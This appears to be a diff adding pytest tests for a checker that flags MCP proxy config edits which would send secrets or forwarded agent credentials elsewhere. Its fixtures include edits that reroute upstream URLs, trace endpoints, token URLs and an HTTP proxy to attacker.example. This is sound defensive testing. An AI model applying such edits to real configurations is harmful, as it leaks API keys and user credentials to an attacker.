@@ -47,6 +47,63 @@ command = "notify"
 enabled = false
 """
 CONTROL = "\n[mcp.proxy.control]\nallow_commands = true\n"
+SENDING = """\
+[mcp.proxy]
+enable = true
+
+[[mcp.proxy.upstreams]]
+name = "tracker"
+transport = "http"
+url = "https://tracker.example/mcp"
+
+[[mcp.proxy.upstreams]]
+name = "wiki"
+transport = "http"
+url = "https://wiki.example/mcp"
+headers = { X-Pin = "4711" }
+
+[[mcp.proxy.profiles]]
+name = "support"
+
+[[mcp.proxy.profiles.overrides]]
+tool = "tracker:search"
+name = "search"
+fixed = { token = "a1b2c3d4e5f6" }
+
+[[mcp.proxy.profiles.overrides]]
+tool = "tracker:create"
+fixed = { project = "${PROJECT}" }
+
+[[mcp.proxy.profiles.overrides]]
+tool = "wiki:read"
+fixed = { language = "english" }
+
+[[mcp.proxy.plugins]]
+name = "observe_traces"
+endpoint = "https://collector.example/v1/traces"
+headers = { Authorization = "Bearer a9b8c7d6e5f4" }
+"""
+"""Secrets of the file, and what says where they are sent."""
+ELSEWHERE = [
+    ('tool = "tracker:search"', 'tool = "wiki:search"'),
+    ('tool = "tracker:create"', 'tool = "wiki:create"'),
+    ('tool = "tracker:search"', 'tool = ["tracker:search"]'),
+    ('name = "support"', 'name = "other"'),
+    ("https://tracker.example/mcp", "https://attacker.example/mcp"),
+    ('url = "https://tracker.example/mcp"', 'url = "https://tracker.example/mcp"\nproxy = "http://attacker.example"'),
+    ("https://wiki.example/mcp", "https://attacker.example/mcp"),
+    ("https://collector.example/v1/traces", "https://attacker.example/v1/traces"),
+    ('endpoint = "https://collector.example/v1/traces"\n', ""),
+]
+STAYING = [
+    ('name = "search"', 'name = "find"'),
+    ('tool = "wiki:read"', 'tool = "other:read"'),
+    ("a1b2c3d4e5f6", "another"),
+    ('name = "wiki"', 'name = ["wiki"]'),
+    ('https://wiki.example/mcp"\nheaders = { X-Pin = "4711" }', 'https://other.example/mcp"'),
+    ('collector.example/v1/traces"\nheaders = { Authorization = "Bearer a9b8c7d6e5f4" }', 'other.example/"'),
+    ("headers = { Authorization", "ratio = 0.5\nheaders = { Authorization"),
+]
 ATTACKS = [
     # code
     ('command = "server"', 'command = "sh"'),
@@ -98,6 +155,39 @@ HARMLESS = [
 ]
 
 
+FORWARDING = """\
+[mcp.proxy]
+enable = true
+
+[[mcp.proxy.upstreams]]
+name = "tracker"
+transport = "http"
+url = "https://tracker.example/mcp"
+forward = { X-Api-Key = "header:X-Tracker-Key", X-User = "principal.subject" }
+
+[[mcp.proxy.upstreams]]
+name = "desk"
+transport = "http"
+url = "https://desk.example/mcp"
+auth = { grant = "token_exchange", token_url = "https://login.example/token", client_id = "gateway" }
+
+[[mcp.proxy.upstreams]]
+name = "open"
+transport = "http"
+url = "https://open.example/mcp"
+"""
+"""Upstreams that get what agents present for them."""
+OF_AGENTS = [
+    ("https://tracker.example", "https://attacker.example"),
+    ('name = "tracker"', 'name = "other"'),
+    ("header:X-Tracker-Key", "header:X-Wiki-Key"),
+    ('open.example/mcp"', 'open.example/mcp"\nforward = { X-A = "header:X-Tracker-Key?" }'),
+    ("https://desk.example", "https://attacker.example"),
+    ("https://login.example", "https://attacker.example"),
+    ('open.example/mcp"', 'open.example/mcp"\nauth = { grant = "token_exchange", client_id = "a" }'),
+]
+
+
 def of(text: str) -> FileText:
     return FileText(text, Path("f.toml"))
 
@@ -138,3 +228,49 @@ def test_a_second_server_with_the_same_command_runs_nothing_new() -> None:
     block = TEXT[start : TEXT.index("[[mcp.proxy.upstreams]]", start + 1)]
     copy = block.replace('"child"', '"copy"').replace('KEY = "${KEY}"', 'KEY = "${KEY}"')
     assert forbidden(of(TEXT), of(TEXT.replace(block, block + copy)), allowed=False) == []
+
+
+@pytest.mark.parametrize(("present", "wanted"), ELSEWHERE)
+def test_a_secret_is_sent_nowhere_else(present: str, wanted: str) -> None:
+    assert SENDING.count(present) == 1
+    found = forbidden(of(SENDING), of(SENDING.replace(present, wanted)), allowed=False)
+    assert found
+    assert all(problem.line and problem.key for problem in found)
+    assert not any("a1b2c3d4e5f6" in problem or "a9b8c7d6e5f4" in problem for problem in found)
+
+
+@pytest.mark.parametrize(("present", "wanted"), STAYING)
+def test_what_sends_no_secret_elsewhere_is_written(present: str, wanted: str) -> None:
+    assert SENDING.count(present) == 1
+    assert forbidden(of(SENDING), of(SENDING.replace(present, wanted)), allowed=False) == []
+
+
+def test_a_new_upstream_cannot_take_the_tool_that_gets_a_secret() -> None:
+    new = '\n[[mcp.proxy.upstreams]]\nname = "new"\ntransport = "http"\nurl = "https://attacker.example/mcp"\n'
+    assert forbidden(of(SENDING), of(SENDING + new), allowed=False) == []
+    published = SENDING.replace("tracker:search", "tracker__search")
+    (problem,) = forbidden(of(published), of(published + new), allowed=False)
+    assert problem.key == "mcp.proxy.upstreams[2]"
+
+
+@pytest.mark.parametrize(("present", "wanted"), OF_AGENTS)
+def test_credentials_of_agents_are_sent_nowhere_else(present: str, wanted: str) -> None:
+    assert FORWARDING.count(present) == 1
+    found = forbidden(of(FORWARDING), of(FORWARDING.replace(present, wanted)), allowed=False)
+    assert found
+    assert all(problem.line and problem.key for problem in found)
+
+
+@pytest.mark.parametrize(
+    ("present", "wanted"),
+    [
+        ('X-Api-Key = "header:X-Tracker-Key", ', ""),
+        ('X-Api-Key = "header', 'X-Key = "header'),
+        ("https://open.example", "https://other.example"),
+        ('open.example/mcp"', 'open.example/mcp"\nforward = { X-User = "principal.subject" }'),
+        ('name = "desk"', 'name = "desk"\ntimeout = 5.0'),
+    ],
+)
+def test_what_sends_no_credentials_elsewhere_is_written(present: str, wanted: str) -> None:
+    assert FORWARDING.count(present) == 1
+    assert forbidden(of(FORWARDING), of(FORWARDING.replace(present, wanted)), allowed=False) == []
